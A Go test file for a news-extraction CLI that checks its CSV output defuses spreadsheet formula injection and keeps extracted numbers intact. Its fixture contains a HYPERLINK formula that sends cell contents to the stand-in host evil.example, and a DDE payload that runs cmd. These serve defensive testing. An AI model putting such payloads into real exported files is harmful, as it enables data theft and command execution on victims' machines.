package main

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/vnextract/vnextract/extract"
)

func TestProtect(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+2", "'=1+2"},
		{"+84 912", "'+84 912"},
		{"-5-3", "'-5-3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"Hà Nội", "Hà Nội"},
		{"2-3", "2-3"},
		{"", ""},
		{"a=b", "a=b"},
	}
	for _, tc := range tests {
		if got := protect(tc.in); got != tc.want {
			t.Errorf("protect(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestIsOurNumber(t *testing.T) {
	tests := []struct {
		kind, value string
		want        bool
	}{
		{"indicator", "-5", true},
		{"indicator", "20.4", true},
		{"indicator", "2-3", true}, // a range: not a formula character first, exempt or not it is unchanged
		{"indicator", "-5-3", false},
		{"indicator", "-2+3", false},
		{"indicator", "9/12", false},
		{"date", "2022-08-12", true},
		{"date", "2016/2020", true},
		{"date", "17:14", true},
		{"published", "2022-08-12T17:14:00+07:00", true},
		{"date", "-2022", false},
		{"person", "-5", false}, // only values we know are numbers
		{"title", "2022-08-12", false},
	}
	for _, tc := range tests {
		got := isOurNumber(tc.kind, tc.value)
		if tc.value == "2-3" {
			got = protect("2-3") == "2-3"
		}
		if got != tc.want {
			t.Errorf("isOurNumber(%q, %q) = %v, want %v", tc.kind, tc.value, got, tc.want)
		}
	}
}

// injectionJSONL is a crawler record whose URL and headline a spreadsheet
// would run as formulas.
func injectionJSONL(t *testing.T) string {
	t.Helper()
	const h = `=HYPERLINK("http://evil.example/?"&amp;A1,"Bấm vào đây")`
	page := `<html><head><title>` + h + `</title></head><body><h1>` + h + `</h1>` +
		`<p>Sáng 12.8.2022, đồng chí Phạm Xuân Thăng, Bí thư Tỉnh ủy, chủ trì hội nghị với 1.340 chi bộ thôn.</p>` +
		`<p>Theo Nghị quyết số 18-NQ/TW, các cấp ủy cần tập trung chỉ đạo.</p></body></html>`
	b, err := json.Marshal(map[string]string{"url": "=cmd|' /C calc'!A0", "html": page})
	if err != nil {
		t.Fatal(err)
	}
	return string(b) + "\n"
}

// TestCSVInjection checks that the text cells a spreadsheet would run are
// neutralised, numbers we wrote are not, and -raw writes them as they are.
func TestCSVInjection(t *testing.T) {
	in := injectionJSONL(t)
	r := runCLI(t, in, testTimeout)
	if r.code != exitOK {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	recs := readCSV(t, r.stdout)
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
				t.Errorf("cell %d of %q starts with %q", i, rec, cell[:1])
			}
		}
		if rec[0] != "'=cmd|' /C calc'!A0" {
			t.Errorf("doc %q, want it with a leading apostrophe", rec[0])
		}
		if rec[1] == "indicator" && rec[2] != "1340" {
			t.Errorf("indicator value %q, want 1340 unchanged", rec[2])
		}
		if rec[1] == "headline" && !strings.HasPrefix(rec[2], "'=HYPERLINK(") {
			t.Errorf("headline %q not neutralised", rec[2])
		}
	}
	raw := runCLI(t, in, testTimeout, "-raw")
	if !strings.Contains(raw.stdout, "\n=cmd|' /C calc'!A0,headline,\"=HYPERLINK(") {
		t.Errorf("-raw changed the cells:\n%s", raw.stdout)
	}
}

// TestCSVOptions checks -bom, -crlf and -header=false, and that the
// output reads back through encoding/csv to the library's facts.
func TestCSVOptions(t *testing.T) {
	const path = "../../testdata/sample/article.html"
	r := runCLI(t, "", testTimeout, "-bom", "-crlf", path)
	if r.code != exitOK {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	if !strings.HasPrefix(r.stdout, "\ufeffdoc,kind,") {
		t.Errorf("no BOM before the header: %q", r.stdout[:20])
	}
	if strings.Count(r.stdout, "\n") != strings.Count(r.stdout, "\r\n") {
		t.Errorf("-crlf: a line ends in LF alone")
	}
	recs := readCSV(t, strings.TrimPrefix(r.stdout, "\ufeff"))

	x, err := extract.New(extract.Options{Tone: extract.DefaultOptions().Tone, MatchTimeout: 30e9})
	if err != nil {
		t.Fatal(err)
	}
	a, err := x.FromBytes(mustRead(t, path), path, "")
	if err != nil {
		t.Fatal(err)
	}
	if len(recs)-1 != len(a.Facts) {
		t.Fatalf("%d rows, the library gives %d facts", len(recs)-1, len(a.Facts))
	}
	for i, f := range a.Facts {
		want := f.Record(path)
		for j := range want {
			// Round trip: the cell reads back as written (CR LF inside a
			// quoted cell reads back as LF, as encoding/csv documents).
			w := strings.ReplaceAll(protect(want[j]), "\r\n", "\n")
			if j == valueColumn && isOurNumber(string(f.Kind), want[j]) {
				w = want[j]
			}
			if recs[i+1][j] != w {
				t.Errorf("row %d col %d: %q, want %q", i+1, j, recs[i+1][j], w)
			}
		}
	}

	nohead := runCLI(t, "", testTimeout, "-header=false", path)
	if strings.HasPrefix(nohead.stdout, "doc,") || !strings.HasPrefix(nohead.stdout, path+",headline,") {
		t.Errorf("-header=false: %.80q", nohead.stdout)
	}
}

func TestJSONLOutput(t *testing.T) {
	r := runCLI(t, injectionJSONL(t), testTimeout, "-format", "jsonl")
	if r.code != exitOK {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	lines := strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n")
	for _, l := range lines {
		var m map[string]string
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatalf("line %q: %v", l, err)
		}
		if m["doc"] != "=cmd|' /C calc'!A0" || len(m) != len(extract.Header()) {
			t.Errorf("line %q", l)
		}
	}
	if !bytes.Contains([]byte(lines[0]), []byte(`"value":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")"`)) {
		t.Errorf("first line %q: want the headline unescaped (no \\u0026)", lines[0])
	}
}
